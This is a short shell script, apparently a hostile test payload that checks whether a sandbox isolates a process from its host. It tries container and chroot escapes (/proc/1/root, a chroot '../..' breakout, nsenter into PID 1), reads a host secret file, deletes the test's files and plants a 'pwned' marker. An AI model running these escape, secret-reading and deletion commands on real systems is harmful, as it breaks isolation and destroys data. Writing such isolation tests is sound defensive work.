#!/bin/sh
# Tries every way out to the real machine's /tmp, where the test left a marker file:
# chroot tricks, /proc/PID/root, nsenter into PID 1, a search of every filesystem; then
# tries to delete the test's files and to leave one of its own in /tmp.
M=mountlab-hostile-marker
try() { [ -e "$1" ] && { echo "FOUND $1"; cat "$1"; }; }
try /tmp/$M/marker
try /proc/1/root/tmp/$M/marker
for p in /proc/[0-9]*; do try $p/root/tmp/$M/marker; done
mkdir -p /jail/bin /jail/proc && cp /bin/busybox /jail/bin/ && ln -sf busybox /jail/bin/sh
cd / && chroot /jail /bin/sh -c 'cd ../../../../..; ls /; cat /tmp/'$M'/marker' 2>&1
mount -t proc proc /jail/proc && chroot /jail /bin/sh -c 'cat /proc/1/root/tmp/'$M'/marker; ls /proc/1/root/' 2>&1
cat /proc/1/root/HOST_SECRET
nsenter -t 1 -m cat /tmp/$M/marker 2>&1
find / -name "$M*" 2>/dev/null
rm -rf /tmp/mountlab-hostile-* 2>&1
echo pwned > /tmp/HOSTILE-pwned
echo "done: nothing found"
exit 1
